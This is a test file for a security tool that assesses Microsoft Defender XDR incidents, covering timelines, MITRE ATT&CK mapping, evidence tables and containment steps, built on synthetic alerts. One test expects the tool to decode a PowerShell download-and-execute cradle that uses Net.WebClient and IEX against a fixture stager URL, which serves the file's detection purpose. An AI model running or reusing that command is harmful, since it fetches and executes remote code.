/**
 * The Defender XDR incident assessment turns an incident and its alerts into a verdict, a timeline, the
 * affected users and devices, MITRE ATT&CK, the evidence that matters and ordered next steps. Each case tells
 * one story with small hand-made Graph records (see fixtures.ts) at a fixed `NOW`.
 */
import { describe, expect, it } from 'vitest';
import type { DefenderAlert } from '../../../../src/clients/graph-security-resources.js';
import {
  assessIncident,
  type IncidentAssessment,
  type IncidentEvidence,
} from '../../../../src/plugins/defender-xdr/assess-incident.js';
import {
  ADELE_UPN,
  adeleAlerts,
  alert,
  deviceEvidence,
  ENCODED_COMMAND_LINE,
  incident,
  minutesAgo,
  NOW,
  processEvidence,
  STAGER_URL,
  userEvidence,
} from './fixtures.js';

function assess(overrides: Partial<IncidentEvidence> = {}): IncidentAssessment {
  const alerts = overrides.alerts ?? adeleAlerts();
  return assessIncident({
    incidentId: '4211',
    incident: incident({}, alerts),
    alerts,
    alertsFrom: 'incident',
    now: NOW,
    ...overrides,
  });
}

const titles = (items: { title: string }[]) => items.map((item) => item.title);
const fact = (assessment: IncidentAssessment, label: string) =>
  assessment.facts.find((f) => f.label === label)?.value;
const table = (assessment: IncidentAssessment, start: string) =>
  assessment.evidence.find((t) => t.title.startsWith(start));

describe('assessIncident', () => {
  describe('an active, unassigned, high-severity multi-stage incident', () => {
    const assessment = assess();

    it('rates it by its severity and says who owns it', () => {
      expect(assessment.riskLevel).toBe('high');
      expect(assessment.verdict).toBe('High severity, active, unassigned');
      expect(fact(assessment, 'Severity')).toBe('high');
      expect(fact(assessment, 'Status')).toBe('active');
      expect(fact(assessment, 'Assigned to')).toBe('nobody');
      expect(fact(assessment, 'Created')).toBe('2026-11-24 12:30 UTC (3 h ago)');
      expect(fact(assessment, 'Alerts')).toBe(
        '4 from Microsoft Entra ID Protection and Microsoft Defender for Endpoint',
      );
    });

    it('puts the alerts in the order their activity happened, whatever order Graph sent them in', () => {
      const timeline = table(assessment, 'Timeline');
      expect(timeline?.rows.map((row) => row[1])).toEqual([
        'Password spray',
        'Atypical travel',
        'Anonymous IP address',
        'Suspicious PowerShell command line',
      ]);
      expect(timeline?.rows[0]).toEqual([
        '2026-11-24 11:40 UTC (3 h ago)',
        'Password spray',
        'high',
        'Credential access',
        'Microsoft Entra ID Protection',
        'new',
      ]);
      expect(titles(assessment.findings).slice(0, 4)).toEqual(timeline?.rows.map((row) => row[1]));
    });

    it('names the MITRE ATT&CK tactics in attack order and the techniques by name, as they appeared', () => {
      expect(fact(assessment, 'MITRE ATT&CK tactics')).toBe(
        'Initial access (TA0001), Execution (TA0002), Credential access (TA0006)',
      );
      expect(fact(assessment, 'MITRE ATT&CK techniques')).toBe(
        'T1110.003 Password Spraying, T1078 Valid Accounts, T1090.003 Multi-hop Proxy, T1059.001 PowerShell, T1027 Obfuscated Files or Information',
      );
      expect(assessment.tactics.map((tactic) => tactic.id)).toEqual(['TA0001', 'TA0002', 'TA0006']);
    });

    it('lists the affected user and the device under the name Windows and Intune use', () => {
      expect(table(assessment, 'Affected')?.rows).toEqual([
        ['User', 'Adele Vance', ADELE_UPN, 'compromised', 'suspicious'],
        [
          'Device',
          'DESKTOP-ADELE01',
          'Windows11 build 22631 · risk high · active · 10.20.14.37',
          'compromised',
          'suspicious',
        ],
      ]);
      expect(assessment.affected.devices.map((device) => device.name)).toEqual(['DESKTOP-ADELE01']);
    });

    it('decodes the encoded PowerShell and says what it does', () => {
      const finding = assessment.findings.find((f) => f.title.startsWith('Encoded PowerShell'));
      expect(finding?.title).toBe(
        `Encoded PowerShell on DESKTOP-ADELE01 downloads and runs code from ${STAGER_URL}`,
      );
      expect(finding?.detail).toContain(`as Adele Vance, started by explorer.exe): ${ENCODED_COMMAND_LINE}`);
      expect(finding?.detail).toContain(
        `Decoded: $wc=New-Object Net.WebClient;IEX $wc.DownloadString('${STAGER_URL}')`,
      );
      expect(finding?.severity).toBe('high');
      expect(assessment.summary).toContain(
        `Latest: "Suspicious PowerShell command line" on DESKTOP-ADELE01, 12 min ago — an encoded PowerShell command that downloads and runs code from ${STAGER_URL}.`,
      );
    });

    it('lists the evidence: the process, then the addresses and URLs in the order they appeared', () => {
      const rows = table(assessment, 'Evidence')?.rows ?? [];
      expect(rows.map((row) => [row[0], row[1]])).toEqual([
        ['Process', ENCODED_COMMAND_LINE],
        ['IP address', '192.0.2.45'],
        ['IP address', '192.0.2.66'],
        ['IP address', '203.0.113.24'],
        ['IP address', '192.0.2.240'],
        ['URL', STAGER_URL],
      ]);
      expect(rows[2]).toEqual([
        'IP address',
        '192.0.2.66',
        'NL · attacker',
        'malicious',
        'Atypical travel; Anonymous IP address',
      ]);
    });

    it('orders the next steps: own it, isolate, secure the account, block, hunt, Defender’s advice, close', () => {
      expect(titles(assessment.remediation)).toEqual([
        'Assign the incident and set it to In progress',
        'Isolate DESKTOP-ADELE01 in Defender for Endpoint',
        "Secure Adele Vance's account",
        'Block the attacker’s addresses and URLs',
        'Hunt for the same activity elsewhere',
        `Defender's recommendation for "Password spray", "Atypical travel" and "Anonymous IP address"`,
        `Defender's recommendation for "Suspicious PowerShell command line"`,
        'Classify and resolve it once contained',
      ]);
      expect(assessment.remediation[3]?.detail).toBe(
        `Add 192.0.2.45, 192.0.2.66, 192.0.2.240 and ${STAGER_URL} as block indicators in Defender XDR, and the IP addresses to a blocked named location in Conditional Access.`,
      );
      expect(assessment.summary).toContain(
        "Contain it now: isolate DESKTOP-ADELE01 and secure Adele Vance's account.",
      );
    });

    it('suggests follow-ups about the user and the device, and guidance from the techniques', () => {
      expect(assessment.followUps).toEqual([
        `is ${ADELE_UPN} compromised?`,
        'is DESKTOP-ADELE01 compliant?',
        'show open high severity incidents',
      ]);
      expect(assessment.guidance).toHaveLength(4);
      expect(assessment.guidance[0]).toMatch(/Block execution of potentially obfuscated scripts/);
    });

    it('cites the incident for every statement', () => {
      const keys = new Set([
        ...assessment.facts.map((f) => f.source),
        ...assessment.findings.flatMap((f) => f.sources),
        ...assessment.evidence.map((t) => t.source),
      ]);
      expect([...keys]).toEqual(['incident']);
    });
  });

  it('calls a resolved incident resolved, with its classification and comment, and proposes no containment', () => {
    const alerts = adeleAlerts().map((a) => ({ ...a, status: 'resolved' }));
    const assessment = assess({
      alerts,
      incident: incident(
        {
          status: 'resolved',
          classification: 'falsePositive',
          determination: 'notMalicious',
          assignedTo: 'isaiah.langer@contoso.com',
          resolvingComment: 'Red team exercise, confirmed with the CISO.',
        },
        alerts,
      ),
    });
    expect(assessment.riskLevel).toBe('none');
    expect(assessment.verdict).toBe('Resolved — false positive (not malicious)');
    expect(fact(assessment, 'Classification')).toBe('false positive (not malicious)');
    expect(assessment.summary).toMatch(
      /^Incident 4211 is resolved as false positive \(not malicious\) by isaiah\.langer@contoso\.com\. Resolution: Red team exercise/,
    );
    expect(assessment.summary).not.toMatch(/Contain it now|Latest:/);
    expect(titles(assessment.remediation)).toEqual(['No containment needed']);
    expect(
      assessment.findings.filter((f) => !f.title.startsWith('Encoded')).every((f) => f.severity === 'none'),
    ).toBe(true);
  });

  it('points a merged incident at the one that carries on', () => {
    const assessment = assess({
      incident: incident({ id: '4200', status: 'redirected', redirectIncidentId: '4211' }, []),
      alerts: [],
    });
    expect(assessment.verdict).toBe('Merged into incident 4211');
    expect(assessment.riskLevel).toBe('unknown');
    expect(titles(assessment.remediation)).toEqual(['Continue on incident 4211']);
    expect(assessment.followUps).toContain('summarise incident 4211');
  });

  it('builds the answer from the alerts alone when the incident could not be read, and says so', () => {
    const assessment = assess({ incident: undefined, alertsFrom: 'alerts', alertsTruncated: true });
    expect(assessment.verdict).toBe('High severity (from its alerts) — incident details unavailable');
    expect(assessment.riskLevel).toBe('high');
    expect(assessment.summary).toMatch(
      /^Ward could not read incident 4211 itself from Defender XDR; this is built from its alerts alone\./,
    );
    expect(assessment.summary).toMatch(/More alerts exist than Ward read/);
    expect(fact(assessment, 'Alerts')).toMatch(/^4\+ from/);
    expect(fact(assessment, 'Status')).toBeUndefined();
    expect(new Set(assessment.findings.flatMap((f) => f.sources))).toEqual(new Set(['alerts']));
    expect(titles(assessment.remediation)[0]).toBe('Isolate DESKTOP-ADELE01 in Defender for Endpoint');
  });

  it('says the alerts are unknown, not absent, when no source gave them', () => {
    const assessment = assess({ incident: undefined, alerts: undefined, alertsFrom: 'alerts' });
    expect(assessment.riskLevel).toBe('unknown');
    expect(assessment.summary).toMatch(/Not checked \(source unavailable\): its alerts and evidence\./);
    expect(assessment.evidence).toEqual([]);
  });

  it('says an incident with no alerts has none', () => {
    const assessment = assess({ alerts: [], incident: incident({ severity: 'low' }, []) });
    expect(assessment.riskLevel).toBe('low');
    expect(assessment.summary).toMatch(/Defender XDR returned no alerts for it\./);
    expect(assessment.evidence).toEqual([]);
  });

  describe('what changed since Ward last answered', () => {
    it('says nothing is new when nothing changed', () => {
      const assessment = assess({ since: new Date(minutesAgo(5)) });
      expect(assessment.summary).toMatch(
        /^Nothing new since Ward's last answer about it \(5 min ago\): no new or updated alerts\./,
      );
      expect(assessment.findings.some((f) => f.title.startsWith('Since'))).toBe(false);
    });

    it('names the new and updated alerts', () => {
      const assessment = assess({ since: new Date(minutesAgo(85)) });
      const finding = assessment.findings[0];
      expect(finding?.title).toBe("Since Ward's last answer about it (1 h ago): 1 new alert and 1 updated");
      expect(finding?.detail).toBe(
        'New: Suspicious PowerShell command line (high, 10 min ago). Updated: Anonymous IP address (now new).',
      );
      expect(finding?.severity).toBe('high');
    });
  });

  it('keeps unknown categories, techniques and severities as they are, without reaching Object.prototype', () => {
    const odd: DefenderAlert = alert({
      title: 'Custom detection',
      category: 'constructor',
      severity: 'toString',
      status: '__proto__',
      serviceSource: 'hasOwnProperty',
      productName: null,
      mitreTechniques: ['T9999', 'toString'],
      evidence: [{ '@odata.type': '#microsoft.graph.security.registryKeyEvidence', roles: [] }],
    });
    const assessment = assess({
      alerts: [odd],
      incident: incident({ severity: 'unknownFutureValue' }, [odd]),
    });
    expect(assessment.riskLevel).toBe('unknown');
    expect(fact(assessment, 'MITRE ATT&CK techniques')).toBe('T9999, TOSTRING');
    expect(fact(assessment, 'MITRE ATT&CK tactics')).toBeUndefined();
    expect(table(assessment, 'Timeline')?.rows[0]).toEqual([
      '2026-11-24 13:58 UTC (1 h ago)',
      'Custom detection',
      'toString',
      'Constructor',
      'has own property',
      'proto',
    ]);
  });

  it('shows an encoded command that does not decode as it is, without a decoded finding', () => {
    const garbled = alert({
      title: 'Suspicious PowerShell command line',
      category: 'Execution',
      evidence: [deviceEvidence(), processEvidence('powershell.exe -enc AAAA////AAAA'), userEvidence()],
    });
    const assessment = assess({ alerts: [garbled], incident: incident({}, [garbled]) });
    expect(assessment.findings.some((f) => f.title.startsWith('Encoded PowerShell'))).toBe(false);
    expect(table(assessment, 'Evidence')?.rows[0]?.[1]).toBe('powershell.exe -enc AAAA////AAAA');
    expect(titles(assessment.remediation)).toContain('Isolate DESKTOP-ADELE01 in Defender for Endpoint');
  });

  it('rates informational incidents low and asks to check with the user rather than contain', () => {
    const info = alert({
      severity: 'informational',
      title: 'Email reported by user as malware or phish',
      category: 'InitialAccess',
      mitreTechniques: ['T1566'],
    });
    const assessment = assess({ alerts: [info], incident: incident({ severity: 'informational' }, [info]) });
    expect(assessment.riskLevel).toBe('low');
    expect(assessment.summary).toMatch(/Check with Adele Vance whether the activity was theirs\./);
    expect(assessment.summary).not.toMatch(/Contain it now/);
    expect(assessment.guidance).toContainEqual(expect.stringMatching(/Safe Links/));
  });

  it('keeps a long incident within the card: the most recent alerts, a timeline that says it is cut', () => {
    const older = Array.from({ length: 40 }, (_, index) =>
      alert({ title: `Background alert ${index}`, firstActivityDateTime: minutesAgo(900 - index) }),
    );
    const assessment = assess({ alerts: [...older, ...adeleAlerts()] });
    expect(table(assessment, 'Timeline')?.title).toBe('Timeline (alerts in time order, the last 25 of 44)');
    expect(table(assessment, 'Timeline')?.rows).toHaveLength(25);
    expect(assessment.findings.length).toBeLessThanOrEqual(30);
    expect(assessment.findings.some((f) => f.title.startsWith('Encoded PowerShell'))).toBe(true);
    expect(fact(assessment, 'Alerts')).toMatch(/^44 from/);
  });
});
